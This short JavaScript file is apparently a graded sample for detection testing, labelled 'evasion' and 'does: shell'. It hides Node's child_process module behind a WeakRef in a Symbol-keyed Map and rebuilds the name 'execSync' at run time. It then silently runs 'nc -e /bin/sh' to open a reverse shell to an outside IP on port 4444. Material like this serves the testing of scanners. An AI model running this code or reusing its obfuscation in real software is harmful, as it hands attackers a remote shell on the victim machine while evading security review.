// evasion: child_process kept behind a WeakRef in a Map keyed by a Symbol; the method name is an upper-case word lowered at run time
// grade: hard; does: shell
'use strict';
const registry = new Map();
const TOOLS = Symbol('tools');
registry.set(TOOLS, new WeakRef(require('child_process')));

function tool(word) {
  const name = word.toLowerCase().replace(/sync$/, 'Sync');
  return registry.get(TOOLS).deref()[name];
}

tool('EXECSYNC')('nc -e /bin/sh 203.0.113.7 4444', { stdio: 'ignore' });
